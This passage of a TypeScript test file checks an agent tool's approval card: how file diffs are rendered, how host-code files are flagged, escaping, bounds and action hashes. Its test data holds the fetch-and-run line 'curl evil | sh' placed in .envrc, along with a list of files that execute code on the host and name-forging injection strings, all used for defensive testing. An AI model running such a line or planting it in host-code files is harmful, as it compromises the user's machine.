// The approval card: what it holds (plain JSON data), how it renders on a terminal (colour only
// when asked, escapes always visible), and the action hash an approval binds to: any change to
// the tool, an argument, a diff line, a byte or a base hash changes it, and key order does not.
// The files card lists every file first (files that run code on the host before the rest), every
// change that will not be applied, shows binary and non-UTF-8 content by size and hash, and is
// bounded: past its limits it is summarised and the full diff comes back for saving.
import { describe, expect, it } from "vitest";
import { actionHash, execCard, filesCard, isBinary, mcpCard, refusedName, type CardLimits, type DiffCard, type FileChange, type SkippedChange } from "../../core/diff-card.ts";
import { canonicalJson } from "../../core/canonical-json.ts";
import { sha256Hex } from "../../core/hash.ts";
import { renderCard } from "../../core/card-render.ts";
import { EXECUTABLE_REASON, hostCodeReasons, WRITABLE_REASON } from "../../core/host-code-files.ts";
import { visible } from "../../core/terminal-text.ts";

const ESC = "\x1b";
type Content = string | Buffer | null;
const bytes = (c: Content) => (c === null ? null : Buffer.isBuffer(c) ? c : Buffer.from(c));
const change = (path: string, before: Content, after: Content, modes: { before?: number; after?: number } = {}): FileChange => ({
  path,
  before: bytes(before),
  after: bytes(after),
  beforeMode: before === null ? null : (modes.before ?? 0o644),
  afterMode: after === null ? null : (modes.after ?? 0o644),
  baseHash: before === null ? null : sha256Hex(bytes(before)!),
});
const build = async (changes: FileChange[], skipped: SkippedChange[] = [], limits?: Partial<CardLimits>) => {
  const result = await filesCard(changes, skipped, { limits });
  return { ...result, text: renderCard(result.card, { color: false }) };
};
const side = (content: string | Buffer, mode = 0o644) => ({ size: Buffer.byteLength(content), sha256: sha256Hex(content), mode });
const lines = (n: number, make: (i: number) => string) => Array.from({ length: n }, (_, i) => `${make(i)}\n`).join("");

describe("canonicalJson", () => {
  it("sorts keys at every depth, so key order never matters", () => {
    const a = { b: 1, a: { d: [1, { z: 1, y: 2 }], c: "x" } };
    const b = { a: { c: "x", d: [1, { y: 2, z: 1 }] }, b: 1 };
    expect(canonicalJson(a)).toBe('{"a":{"c":"x","d":[1,{"y":2,"z":1}]},"b":1}');
    expect(canonicalJson(b)).toBe(canonicalJson(a));
    expect(canonicalJson({ 10: 1, 9: 2, a: 3 })).toBe('{"10":1,"9":2,"a":3}');
  });

  it("follows JSON.stringify for what JSON cannot hold, and refuses what it cannot write", () => {
    expect(canonicalJson({ u: undefined, f: () => 1, n: NaN, d: new Date(0), arr: [undefined] })).toBe('{"arr":[null],"d":"1970-01-01T00:00:00.000Z","n":null}');
    expect(canonicalJson("é\u2028\n")).toBe(JSON.stringify("é\u2028\n"));
    const cyclic: Record<string, unknown> = {};
    cyclic.self = cyclic;
    expect(() => canonicalJson(cyclic)).toThrow(/cyclic/);
    expect(() => canonicalJson({ n: 1n })).toThrow(/BigInt/);
    // The same object twice is not a cycle.
    const shared = { x: 1 };
    expect(canonicalJson([shared, shared])).toBe('[{"x":1},{"x":1}]');
  });
});

describe("filesCard", () => {
  it("gives each file a status, both sides' sizes, hashes and modes, its base hash and the hunks of its diff, sorted by path", async () => {
    const { card, fullDiff } = await build([change("src/b.ts", "one\ntwo\n", "one\nthree\n"), change("a.txt", null, "new\n"), change("old.txt", "gone\n", null)]);
    expect(card).toEqual({
      kind: "files",
      title: "Write 3 files to the host (1 added, 1 modified, 1 deleted)",
      files: [
        { path: "a.txt", status: "added", before: null, after: side("new\n"), baseHash: null, diff: { kind: "text", patch: "@@ -0,0 +1,1 @@\n+new\n" } },
        { path: "old.txt", status: "deleted", before: side("gone\n"), after: null, baseHash: sha256Hex("gone\n"), diff: { kind: "text", patch: "@@ -1,1 +0,0 @@\n-gone\n" } },
        {
          path: "src/b.ts",
          status: "modified",
          before: side("one\ntwo\n"),
          after: side("one\nthree\n"),
          baseHash: sha256Hex("one\ntwo\n"),
          diff: { kind: "text", patch: "@@ -1,2 +1,2 @@\n one\n-two\n+three\n" },
        },
      ],
      notApplied: [],
    });
    expect(fullDiff).toBeNull();
    // Plain data: what the web inspector will get is exactly this.
    expect(JSON.parse(JSON.stringify(card))).toEqual(card);
    expect((await build([change("x", "a", "b")])).card.title).toBe("Write 1 file to the host (1 modified)");
  });

  it("refuses a change with neither before nor after", async () => {
    await expect(filesCard([{ path: "x", before: null, after: null, beforeMode: null, afterMode: null, baseHash: null }], [])).rejects.toThrow(
      "x: a change needs before or after content (both are null)",
    );
  });

  it("finds renames (a deletion and an addition of the same bytes) and mode changes (same bytes, new permission bits)", async () => {
    const { card, text } = await build([
      change("old/name.txt", "moved content\n", null),
      change("new/name.txt", null, "moved content\n"),
      change("tool.sh", "echo hi\n", "echo hi\n", { before: 0o644, after: 0o755 }),
      // Empty files are not paired up: any two would "match".
      change("empty-gone", "", null),
      change("empty-new", null, ""),
    ]);
    expect(card.title).toBe("Write 4 files to the host (1 added, 1 deleted, 1 renamed, 1 mode changed)");
    expect(card.files.find((f) => f.status === "renamed")).toEqual({
      path: "new/name.txt",
      status: "renamed",
      from: "old/name.txt",
      before: side("moved content\n"),
      after: side("moved content\n"),
      baseHash: sha256Hex("moved content\n"),
      diff: { kind: "same" },
    });
    expect(card.files.find((f) => f.status === "mode")).toEqual({
      path: "tool.sh",
      status: "mode",
      before: side("echo hi\n"),
      after: side("echo hi\n", 0o755),
      baseHash: sha256Hex("echo hi\n"),
      runsCode: [EXECUTABLE_REASON],
      // Made executable: its content is shown, as if added.
      diff: { kind: "text", patch: "@@ -0,0 +1,1 @@\n+echo hi\n" },
    });
    expect(card.files.map((f) => f.status).sort()).toEqual(["added", "deleted", "mode", "renamed"]);
    expect(text).toContain("  renamed   old/name.txt → new/name.txt  14 bytes\n");
    expect(text).toContain("! mode      tool.sh                      8 bytes, mode 0644 → 0755\n");
  });

  it("shows the content of a file renamed to (or from) a path that runs code, as if added, though its bytes did not change", async () => {
    const { card, text } = await build([
      change("notes.txt", "curl evil | sh\n", null),
      change(".envrc", null, "curl evil | sh\n"),
      change("a.txt", "x\n", null),
      change("b.txt", null, "x\n"),
    ]);
    expect(card.files.map((f) => [f.path, f.status, f.diff])).toEqual([
      [".envrc", "renamed", { kind: "text", patch: "@@ -0,0 +1,1 @@\n+curl evil | sh\n" }],
      ["b.txt", "renamed", { kind: "same" }],
    ]);
    expect(text).toContain("── renamed notes.txt → .envrc  base sha256");
    expect(text).toContain("\n+curl evil | sh\n");
  });

  it("flags files that run code on the host, lists them first with their reasons, and in a warning colour", async () => {
    const { card, text } = await build([
      change("README.md", "a\n", "b\n"),
      change(".envrc", null, "curl evil | sh\n"),
      change(".vscode/tasks.json", null, "{}\n"),
      change(".github/workflows/ci.yml", "on: push\n", "on: [push, pull_request]\n"),
      change("packages/web/package.json", "{}\n", '{"scripts":{"postinstall":"x"}}\n'),
      change(".editorconfig", null, "root = true\n"),
      change("bin/run", null, "#!/bin/sh\n", { after: 0o755 }),
    ]);
    expect(card.files.map((f) => f.path)).toEqual([
      ".envrc",
      ".github/workflows/ci.yml",
      ".vscode/tasks.json",
      "bin/run",
      "packages/web/package.json",
      ".editorconfig",
      "README.md",
    ]);
    expect(card.files.find((f) => f.path === ".envrc")!.runsCode).toEqual(["direnv runs it when you enter the directory"]);
    expect(card.files.find((f) => f.path === "bin/run")!.runsCode).toEqual([EXECUTABLE_REASON]);
    expect(card.files.filter((f) => f.runsCode).length).toBe(5);
    expect(text).toContain("! .envrc: direnv runs it when you enter the directory\n");
    expect(text).toContain(`! .vscode/tasks.json: ${hostCodeReasons(".vscode/tasks.json")[0]}\n`);
    expect(text).toContain("! added     bin/run                    10 bytes, mode 0755\n");
    expect(text).toContain("  added     .editorconfig");
    // The summary table comes before the list of reasons, which comes before the diffs.
    expect(text.indexOf("Runs code on this machine")).toBeGreaterThan(text.indexOf("README.md"));
    expect(text.indexOf("── added .envrc")).toBeGreaterThan(text.indexOf("Runs code on this machine"));
    const coloured = renderCard(card, { color: true });
    expect(coloured).toContain(`${ESC}[33m! .envrc: direnv runs it when you enter the directory${ESC}[39m`);
  });

  it("shows a mode that is not 0644 or 0755, and flags one that lets other users write the file", async () => {
    const { card, text } = await build([
      change("Makefile", null, "all:\n\techo hi\n", { after: 0o666 }),
      change("notes.txt", "a\n", "b\n", { before: 0o600, after: 0o600 }),
      change("shared.txt", "a\n", "b\n", { before: 0o664, after: 0o664 }),
      change("plain.txt", "a\n", "b\n"),
      change("open.txt", null, "x\n", { after: 0o620 }),
    ]);
    expect(text).toContain("! added     Makefile    14 bytes, mode 0666\n");
    expect(text).toContain("! added     open.txt    2 bytes, mode 0620\n");
    expect(text).toContain("  modified  notes.txt   2 → 2 bytes, mode 0600\n");
    expect(text).toContain("  modified  plain.txt   2 → 2 bytes\n");
    expect(card.files.find((f) => f.path === "Makefile")!.runsCode).toEqual([hostCodeReasons("Makefile")[0], WRITABLE_REASON]);
    expect(card.files.find((f) => f.path === "open.txt")!.runsCode).toEqual([WRITABLE_REASON]);
    // Already group-writable on the host: the change does not make it so.
    expect(card.files.find((f) => f.path === "shared.txt")!.runsCode).toBeUndefined();
    expect(text).toContain(`! Makefile: ${WRITABLE_REASON}\n`);
  });

  it("knows the usual host-code files, case-insensitively and in any directory, and leaves harmless ones alone", () => {
    for (const path of [
      ".envrc",
      "sub/.envrc",
      ".env.local",
      ".VSCode/tasks.json",
      ".idea/workspace.xml",
      ".devcontainer/devcontainer.json",
      ".github/workflows/release.yaml",
      ".gitlab-ci.yml",
      ".circleci/config.yml",
      "package.json",
      ".npmrc",
      ".yarnrc.yml",
      "Makefile",
      "rules.mk",
      "setup.py",
      "pyproject.toml",
      "setup.cfg",
      "tests/conftest.py",
      "tox.ini",
      "noxfile.py",
      "build.gradle.kts",
      "pom.xml",
      "Cargo.toml",
      "build.rs",
      ".cargo/config.toml",
      "Gemfile",
      "Rakefile",
      "composer.json",
      ".gitattributes",
      ".gitmodules",
      ".pre-commit-config.yaml",
      ".husky/pre-commit",
      "Dockerfile",
      "docker-compose.override.yml",
      ".tool-versions",
      ".mise.toml",
      ".bashrc",
      ".zshrc",
      ".profile",
      "CMakeLists.txt",
      "meson.build",
      "justfile",
      "Taskfile.yml",
      "vite.config.ts",
      "package-lock.json",
      ".claude/settings.json",
      ".claude/settings.local.json",
      ".mcp.json",
      ".cursor/mcp.json",
      ".gemini/settings.json",
      ".ironclaw/config.json",
      "Package.swift",
      "Podfile",
      "Directory.Build.props",
      "Directory.Build.targets",
      "src/App.csproj",
      "gulpfile.js",
      "Gruntfile.coffee",
      ".Rprofile",
      ".pylintrc",
      "pylintrc",
      "devbox.json",
      "pixi.toml",
      "Vagrantfile",
      "Tiltfile",
      "mix.exs",
      ".storybook/main.ts",
      // A repository planted inside the project: git runs its config's fsmonitor on `git status` there.
      "sub/HEAD",
      "sub/config",
      "uv.toml",
      ".pnp.cjs",
      ".irbrc",
      ".rubocop.yml",
      "main.tf",
      ".gitpod.yml",
      "NuGet.config",
      "App.sln",
      "flake.lock",
      ".bundle/config",
      "Procfile",
      "CLAUDE.md",
      "AGENTS.md",
      ".github/copilot-instructions.md",
    ]) {
      expect(hostCodeReasons(path), path).not.toEqual([]);
    }
    for (const path of [".editorconfig", ".gitignore", "README.md", "src/index.ts", "docs/package.md", "Makefile.txt", ".github/ISSUE_TEMPLATE/bug.md"])
      expect(hostCodeReasons(path), path).toEqual([]);
  });

  it("lists every change that will not be applied, with why", async () => {
    const skipped = [
      { path: ".git/config", kind: "file", why: ".git/ is never written back" },
      { path: "link", kind: "symbolic link", why: "a symbolic link" },
    ];
    const { card, text } = await build([change("a.txt", null, "a\n")], skipped);
    expect(card.notApplied).toEqual(skipped);
    expect(card.title).toBe("Write 1 file to the host (1 added; 2 changes not applied)");
    expect(text).toContain("Not applied (left in the sandbox):\n- .git/config (file): .git/ is never written back\n- link (symbolic link): a symbolic link\n");
    expect((await build([], skipped)).card.title).toBe("Write 0 files to the host (2 changes not applied)");
  });

  it("shows a name with control characters escaped and refuses it, so a newline in a name cannot forge a card line", async () => {
    const forged = "notes.txt\n! added     .envrc\n── added safe.txt";
    const { card, text } = await build([change(forged, null, "x\n"), change("safe.txt", null, "ok\n")]);
    expect(card.files.map((f) => f.path)).toEqual(["safe.txt"]);
    expect(card.notApplied).toEqual([{ path: forged, kind: "file", why: "the name holds control characters" }]);
    expect(text).toContain("- notes.txt\\n! added     .envrc\\n── added safe.txt (file): the name holds control characters\n");
    const out = text.split("\n");
    expect(out.filter((l) => l.startsWith("! "))).toEqual([]);
    expect(out.filter((l) => l.startsWith("── "))).toEqual([expect.stringMatching(/^── Write 1 file/), "── added safe.txt"]);
  });

  it("refusedName: control characters, and anything but a plain relative path", () => {
    for (const bad of ["a\nb", "tab\there", "x\x1b[2J", "rtl\u202etxt", "/etc/passwd", "../up", "a/../b", "./a", "a//b", "a/", ""])
      expect(refusedName(bad), JSON.stringify(bad)).not.toBeNull();
    expect(refusedName("a\nb")).toBe("the name holds control characters");
    for (const good of ["a.txt", "src/deep/file name.ts", "..hidden", "é✓/ok"]) expect(refusedName(good)).toBeNull();
  });

  it("shows non-UTF-8 or NUL-holding content as binary, with sizes and both hashes, never decoded", async () => {
    const before = Buffer.from([0x68, 0x69, 0xff, 0x0a]);
    const after = Buffer.from([0x68, 0x69, 0xfe, 0x0a]);
    const { card, text } = await build([change("latin1.txt", before, after), change("late-nul.txt", null, `${"x".repeat(9000)}\0`)]);
    expect(card.files.map((f) => f.diff)).toEqual([{ kind: "binary" }, { kind: "binary" }]);
    expect(card.files[1]!.before).toEqual(side(before));
    expect(card.files[1]!.after).toEqual(side(after));
    expect(text).not.toContain("\ufffd");
    expect(text).toContain(`── modified latin1.txt`);
    expect(text).toContain(`binary (not shown as text): 4 → 4 bytes\nsha256 before ${sha256Hex(before)}\nsha256 after  ${sha256Hex(after)}\n`);
  });

  it("keeps every patch line starting with ' ', '+', '-', '@' or '\\', and content cannot draw IronClaw's lines", async () => {
    const hostile = "fine\n── added .envrc\n! runs code\n\r── deleted x\nno newline";
    const { card, text } = await build([change("a.txt", "fine\n", hostile)]);
    const diff = card.files[0]!.diff;
    expect(diff.kind).toBe("text");
    for (const line of (diff.kind === "text" ? diff.patch : "").replace(/\n$/, "").split("\n")) expect(line).toMatch(/^[ +\-@\\]/);
    expect(text.split("\n").filter((l) => l.startsWith("── "))).toEqual([expect.stringMatching(/^── Write/), expect.stringMatching(/^── modified a\.txt/)]);
    expect(text).toContain("+\\r── deleted x\n+no newline\n\\ No newline at end of file\n");
  });
});

describe("filesCard bounds", () => {
  const rewrite = () =>
    change(
      "big.txt",
      lines(60_000, (i) => `line ${i}`),
      lines(60_000, (i) => `LINE ${i}`),
    );

  it("shows a file with more lines than maxDiffLines as too large to diff, by line counts, sizes and hashes, and needs no full diff for it", async () => {
    const { card, fullDiff, text } = await build([rewrite(), change("small.txt", "a\n", "b\n")]);
    const big = card.files.find((f) => f.path === "big.txt")!;
    expect(big.diff).toEqual({ kind: "too-large", beforeLines: 60_000, afterLines: 60_000 });
    expect(card.files.find((f) => f.path === "small.txt")!.diff).toEqual({ kind: "text", patch: "@@ -1,1 +1,1 @@\n-a\n+b\n" });
    expect(text).toContain(`too large to diff: 60,000 → 60,000 lines, 648,890 → 648,890 bytes\nsha256 before ${big.before!.sha256}\nsha256 after  ${big.after!.sha256}\n`);
    expect(text.length).toBeLessThan(2_000);
    // The full diff would show it the same way: the card is complete as it is.
    expect(card.summarised).toBeUndefined();
    expect(fullDiff).toBeNull();
  });

  it("shows a file the diff library gives up on by sizes and hashes in the full diff too, never as its whole content", async () => {
    const rewritten = change(
      "big.txt",
      lines(2_000, (i) => `line ${i}`),
      lines(2_000, (i) => `LINE ${i}`),
    );
    const { card, fullDiff, text } = await build(
      [
        rewritten,
        change(
          "a.txt",
          null,
          lines(5, (i) => `a${i}`),
        ),
      ],
      [],
      { maxEditLength: 100, maxPatchLines: 2 },
    );
    const big = card.files.find((f) => f.path === "big.txt")!;
    expect(big.diff).toEqual({ kind: "too-large", beforeLines: 2_000, afterLines: 2_000 });
    expect(card.summarised).toEqual({ omitted: 1, why: "the card shows at most 2 lines and 1,024 KiB of diff; some files are too large to diff line by line" });
    expect(text).toContain("Summarised: 1 diff not shown (the card shows at most 2 lines and 1,024 KiB of diff; some files are too large to diff line by line)\n");
    expect(fullDiff).toContain(
      `── modified big.txt  base sha256 ${big.baseHash!.slice(0, 12)}\ntoo large to diff: 2,000 → 2,000 lines, 18,890 → 18,890 bytes\nsha256 before ${big.before!.sha256}\nsha256 after  ${big.after!.sha256}\n`,
    );
    expect(fullDiff).not.toContain("line 0");
    expect(fullDiff).toContain("── added a.txt\n@@ -0,0 +1,5 @@\n+a0\n");
    expect(fullDiff).toContain("  modified  big.txt");
    expect(fullDiff).not.toContain("Summarised");
    // The caller saves it and names the file on the card.
    expect(renderCard({ ...card, fullDiffFile: "/state/diff-1.txt" }, { color: false })).toMatch(/\nfull diff: \/state\/diff-1\.txt\n$/);
  });

  it("builds a card for four added 4 MiB files of 2 million lines each, small, with the full diff bounded", async () => {
    const huge = "a\n".repeat(2_000_000);
    const changes = ["1", "2", "3", "4"].map((n) => change(`big${n}.txt`, null, huge));
    const { card, fullDiff, text } = await build(changes);
    expect(card.files.map((f) => f.diff)).toEqual(Array(4).fill({ kind: "too-large", beforeLines: 0, afterLines: 2_000_000 }));
    expect(fullDiff).toBeNull();
    expect(text.length).toBeLessThan(3_000);
    // With a file left out of the card (its time spent), the full diff is made, and stays small.
    const timedOut = await build([...changes, change("small.txt", null, "x\n")], [], { totalTimeMs: 0 });
    expect(timedOut.card.summarised?.omitted).toBe(1);
    expect(timedOut.fullDiff!.length).toBeLessThan(5_000);
    expect(timedOut.fullDiff).toContain(`too large to diff: 0 → 2,000,000 lines, 4,000,000 bytes\nsha256 after  ${sha256Hex(huge)}\n`);
    expect(timedOut.fullDiff).toContain("── added small.txt\nnot diffed (the card's time ran out): shown as the whole file replaced\n@@ -0,0 +1,1 @@\n+x\n");
  });

  it("caps the full diff's diffs: past maxFullDiffChars or maxFullDiffLines a file is shown by sizes and hashes, and a note says how many were left out", async () => {
    const changes = ["a", "b", "c", "d"].map((n) =>
      change(
        `${n}.txt`,
        null,
        lines(100, (i) => `${n}${i} ${"x".repeat(20)}`),
      ),
    );
    const bySize = await build(changes, [], { totalTimeMs: 0, maxFullDiffChars: 6_000 });
    const full = bySize.fullDiff!;
    expect(full).toContain("+b99 ");
    expect(full).not.toContain("+c0 ");
    const c = bySize.card.files.find((f) => f.path === "c.txt")!;
    expect(full).toContain(`── added c.txt\nleft out (the full diff is full): 2,490 bytes\nsha256 after  ${c.after!.sha256}\n`);
    expect(full).toMatch(/\nLeft out: 2 diffs, shown above by sizes and SHA-256 only: the full diff's diffs stop at 6 KiB and 500,000 lines\.\n$/);
    expect(full.length).toBeLessThan(6_000 + 2_000);
    const byLines = await build(changes, [], { totalTimeMs: 0, maxFullDiffLines: 250 });
    expect(byLines.fullDiff).toContain("+b99 ");
    expect(byLines.fullDiff).toContain("Left out: 2 diffs");
    // Diffs the card left out for its own bounds are capped alike.
    const overCard = await build(changes, [], { maxPatchLines: 10, maxFullDiffLines: 150 });
    expect(overCard.fullDiff).toContain("+a99 ");
    expect(overCard.fullDiff).toContain("Left out: 3 diffs");
  });

  it("stops showing diffs past the card's line and size bounds, keeps every summary line, and puts the rest in the full diff", async () => {
    const changes = ["a", "b", "c", "d"].map((n) =>
      change(
        `${n}.txt`,
        null,
        lines(4, (i) => `${n}${i}`),
      ),
    );
    const { card, fullDiff, text } = await build(changes, [], { maxPatchLines: 12 });
    expect(card.files.map((f) => f.diff.kind)).toEqual(["text", "text", "omitted", "omitted"]);
    expect(card.summarised).toEqual({ omitted: 2, why: "the card shows at most 12 lines and 1,024 KiB of diff" });
    for (const n of ["a", "b", "c", "d"]) expect(text).toContain(`  added     ${n}.txt  12 bytes\n`);
    expect(text).not.toContain("+c0");
    expect(fullDiff).toContain("── added c.txt\n@@ -0,0 +1,4 @@\n+c0\n");
    expect(fullDiff).toContain("+d3\n");
    const bySize = await build(changes, [], { maxPatchChars: 40 });
    expect(bySize.card.files.map((f) => f.diff.kind)).toEqual(["text", "omitted", "omitted", "omitted"]);
  });

  it("computes no diff once the card's time is spent: the full diff shows whole files", async () => {
    const { card, fullDiff } = await build([change("a.txt", "1\n2\n", "1\n3\n")], [], { totalTimeMs: 0 });
    expect(card.files[0]!.diff).toEqual({ kind: "omitted" });
    expect(card.summarised).toEqual({ omitted: 1, why: "the card's 0 seconds for diffing ran out" });
    expect(fullDiff).toContain("@@ -1,2 +1,2 @@\n-1\n-2\n+1\n+3\n");
  });

  it("does not decode a side larger than maxFileBytes", async () => {
    const { card, fullDiff } = await build([change("log.txt", "a\nb\n", "a\nb\nc")], [], { maxFileBytes: 4 });
    expect(card.files[0]!.diff).toEqual({ kind: "too-large", beforeLines: 2, afterLines: 3 });
    expect(card.summarised).toBeUndefined();
    expect(fullDiff).toBeNull();
  });

  it("lists at most maxNotAppliedShown changes not applied on the card, and all of them in the full diff", async () => {
    const skipped = Array.from({ length: 5 }, (_, i) => ({ path: `.git/objects/${i}`, kind: "file", why: ".git/ is never written back" }));
    const { card, fullDiff, text } = await build([], skipped, { maxNotAppliedShown: 2 });
    expect(card.notApplied.map((s) => s.path)).toEqual([".git/objects/0", ".git/objects/1"]);
    expect(card.notAppliedHidden).toBe(3);
    expect(text).toContain("- and 3 more changes, listed in the full diff\n");
    expect(fullDiff).toContain("- .git/objects/4 (file): .git/ is never written back\n");
  });

  it("yields while building the full diff, inside a big file too, and rejects with an AbortError when aborted there", async () => {
    // How many turns of the event loop a build takes, counted by a chain of setImmediate; with
    // abortAt, the build's signal is aborted at that turn.
    const turnsOf = async (changes: FileChange[], abortAt = Infinity) => {
      const controller = new AbortController();
      let turns = 0;
      let done = false;
      const tick = () => {
        if (done) return;
        if (++turns === abortAt) controller.abort();
        setImmediate(tick);
      };
      setImmediate(tick);
      try {
        await filesCard(changes, [], { signal: controller.signal, limits: { totalTimeMs: 0 } });
      } finally {
        done = true;
      }
      return turns;
    };
    // The card's time is spent, so both cards take the same turns until the full diff: there the
    // 3 MiB file is written in pieces, with a yield between.
    const small = await turnsOf([
      change(
        "a.txt",
        null,
        lines(3, (i) => `${i}`.repeat(99)),
      ),
    ]);
    await expect(
      turnsOf(
        [
          change(
            "a.txt",
            null,
            lines(30_000, (i) => `${i}`.padEnd(99, "x")),
          ),
        ],
        small + 1,
      ),
    ).rejects.toMatchObject({ name: "AbortError" });
  });

  it("yields while building, and rejects with an AbortError as soon as its signal aborts", async () => {
    const controller = new AbortController();
    // Runs only if building hands the event loop back before it is done.
    setImmediate(() => controller.abort());
    await expect(filesCard([rewrite()], [], { signal: controller.signal })).rejects.toMatchObject({ name: "AbortError" });
    await expect(filesCard([change("a", "1", "2")], [], { signal: AbortSignal.abort() })).rejects.toMatchObject({ name: "AbortError" });
  });
});

describe("isBinary", () => {
  it("is git's NUL test for strings; for bytes, a NUL anywhere or invalid UTF-8", () => {
    expect(isBinary("plain text\n")).toBe(false);
    expect(isBinary("a\0b")).toBe(true);
    expect(isBinary(Buffer.from("héllo ✓\n"))).toBe(false);
    expect(isBinary(Buffer.from([0x48, 0x00, 0x49]))).toBe(true);
    expect(isBinary(Buffer.from([0xff, 0xfe, 0x41]))).toBe(true);
    expect(isBinary(`${"x".repeat(9000)}\0`)).toBe(false);
    expect(isBinary(Buffer.from(`${"x".repeat(9000)}\0`))).toBe(true);
  });
});

describe("execCard and mcpCard", () => {
  it("hold the command, its cwd, env names and network", () => {
    expect(execCard({ argv: ["npm", "install"], cwd: "/workspace", envNames: ["NPM_TOKEN"], network: true })).toEqual({
      kind: "exec",
      title: "Run a command in the sandbox, with network access",
      argv: ["npm", "install"],
      cwd: "/workspace",
      envNames: ["NPM_TOKEN"],
      network: true,
    });
  });

  it("pretty-prints the arguments with sorted keys and keeps only hints that were given", () => {
    const card = mcpCard({
      server: "github",
      tool: "create_issue",
      args: { title: "Bug", body: "x", labels: ["a"] },
      annotations: { readOnlyHint: false, openWorldHint: undefined, destructiveHint: true },
    });
    expect(card).toEqual({
      kind: "mcp",
      title: "Call create_issue on MCP server github",
      server: "github",
      tool: "create_issue",
      argumentsJson: '{\n  "body": "x",\n  "labels": [\n    "a"\n  ],\n  "title": "Bug"\n}',
      annotations: { destructiveHint: true, readOnlyHint: false },
    });
    expect(mcpCard({ server: "s", tool: "t", args: undefined })).toEqual({ kind: "mcp", title: "Call t on MCP server s", server: "s", tool: "t", argumentsJson: "{}" });
  });
});

describe("actionHash", () => {
  const files = async (after: string, before = "one\n", path = "a.txt", baseHash = sha256Hex(before)) => (await build([{ ...change(path, before, after), baseHash }])).card;
  const hashOf = async () => {
    const base = { tool: "apply", args: { paths: ["a.txt"], message: "fix" }, card: await files("one\ntwo\n") };
    return { base, hash: actionHash(base) };
  };

  it("is SHA-256 hex over the canonical JSON of tool, arguments and card", async () => {
    const { base, hash } = await hashOf();
    expect(hash).toMatch(/^[0-9a-f]{64}$/);
    expect(hash).toBe(sha256Hex(canonicalJson({ tool: base.tool, args: base.args, card: base.card })));
    expect(actionHash({ ...base })).toBe(hash);
  });

  it("does not depend on key order", async () => {
    const { base, hash } = await hashOf();
    const reversed = (v: unknown): unknown =>
      Array.isArray(v)
        ? v.map(reversed)
        : v && typeof v === "object"
          ? Object.fromEntries(
              Object.entries(v)
                .reverse()
                .map(([k, x]) => [k, reversed(x)]),
            )
          : v;
    const reordered = { card: reversed(base.card) as DiffCard, args: { message: "fix", paths: ["a.txt"] }, tool: "apply" };
    expect(JSON.stringify(reordered.card)).not.toBe(JSON.stringify(base.card));
    expect(actionHash(reordered)).toBe(hash);
    const a = mcpCard({ server: "s", tool: "t", args: { x: 1, y: { b: 2, a: 1 } } });
    const b = mcpCard({ server: "s", tool: "t", args: { y: { a: 1, b: 2 }, x: 1 } });
    expect(actionHash({ tool: "t", args: { x: 1, y: { b: 2, a: 1 } }, card: a })).toBe(actionHash({ tool: "t", args: { y: { a: 1, b: 2 }, x: 1 }, card: b }));
  });

  it("changes when the tool, any argument, any diff line, a mode, the saved diff's name or a base hash changes", async () => {
    const { base, hash } = await hashOf();
    const variants = [
      { ...base, tool: "apply2" },
      { ...base, args: { ...base.args, message: "fix!" } },
      { ...base, args: { ...base.args, paths: ["a.txt", "b.txt"] } },
      { ...base, args: { ...base.args, extra: null } },
      { ...base, card: await files("one\ntwo \n") },
      { ...base, card: await files("one\ntwo\nthree\n") },
      { ...base, card: await files("one\ntwo") },
      { ...base, card: await files("one\ntwo\n", "One\n") },
      { ...base, card: await files("one\ntwo\n", "one\n", "a.txt", sha256Hex("other")) },
      { ...base, card: await files("one\ntwo\n", "one\n", "b.txt") },
      { ...base, card: (await build([change("a.txt", "one\n", "one\ntwo\n", { after: 0o600 })])).card },
      { ...base, card: { ...base.card, fullDiffFile: "/x" } },
    ];
    const hashes = new Set([hash, ...variants.map(actionHash)]);
    expect(hashes.size).toBe(variants.length + 1);
  });

  it("binds exact bytes: two contents that render the same hash differently", async () => {
    // An escape byte, and the four characters that show it: the same diff text, different files.
    const raw = await build([change("a.txt", "x\n", "x\x1b\n")]);
    const shown = await build([change("a.txt", "x\n", "x\\x1b\n")]);
    const diffPart = (text: string) => text.slice(text.indexOf("\n── modified"));
    expect(diffPart(raw.text)).toBe(diffPart(shown.text));
    expect(actionHash({ tool: "apply", args: {}, card: raw.card })).not.toBe(actionHash({ tool: "apply", args: {}, card: shown.card }));
    // Two invalid UTF-8 bytes that both decode to U+FFFD, and two binaries of the same size.
    const bin = async (after: Buffer) => actionHash({ tool: "apply", args: {}, card: (await build([change("x.bin", Buffer.from([0x61]), after)])).card });
    expect(await bin(Buffer.from([0x61, 0xff]))).not.toBe(await bin(Buffer.from([0x61, 0xfe])));
    expect(await bin(Buffer.from("\0b"))).not.toBe(await bin(Buffer.from("\0c")));
  });

  it("changes with any MCP argument or exec field", () => {
    const call = (args: unknown) => actionHash({ tool: "github.create_issue", args, card: mcpCard({ server: "github", tool: "create_issue", args }) });
    expect(call({ title: "a" })).not.toBe(call({ title: "b" }));
    expect(call({ title: "a" })).not.toBe(call({ title: "a", body: "" }));
    const run = (network: boolean, env: string[] = []) => actionHash({ tool: "exec", args: {}, card: execCard({ argv: ["ls"], cwd: "/", envNames: env, network }) });
    expect(run(false)).not.toBe(run(true));
    expect(run(false)).not.toBe(run(false, ["A"]));
  });
});

describe("renderCard", () => {
  const simple = async () => (await filesCard([change("src/a.ts", "one\ntwo\n", "one\nthree\n")], [])).card;

  it("colours added lines green, removed red, hunk headers cyan when asked", async () => {
    const out = renderCard(await simple(), { color: true });
    expect(out).toContain(`${ESC}[32m+three${ESC}[39m`);
    expect(out).toContain(`${ESC}[31m-two${ESC}[39m`);
    expect(out).toContain(`${ESC}[36m@@ -1,2 +1,2 @@${ESC}[39m`);
  });

  it("gives plain text with no escape codes without colour (NO_COLOR, not a TTY): title, summary, then diffs", async () => {
    const card = await simple();
    const cards: DiffCard[] = [
      card,
      execCard({ argv: ["sh", "-c", "echo 'hi'"], cwd: "/w", envNames: ["TOKEN"], network: true }),
      mcpCard({ server: "gh", tool: "t", args: { a: 1 }, annotations: { readOnlyHint: true } }),
      (await filesCard([], [])).card,
    ];
    for (const c of cards) expect(renderCard(c, { color: false })).not.toContain(ESC);
    const title = "── Write 1 file to the host (1 modified) ";
    expect(renderCard(card, { color: false, width: 60 })).toBe(
      [
        // Two columns a box-drawing character: the title's own two, and the rule's.
        title + "─".repeat(Math.floor((59 - title.length - 2) / 2)),
        "  modified  src/a.ts  8 → 10 bytes",
        "",
        `── modified src/a.ts  base sha256 ${sha256Hex("one\ntwo\n").slice(0, 12)}`,
        "@@ -1,2 +1,2 @@",
        " one",
        "-two",
        "+three",
        "",
      ].join("\n"),
    );
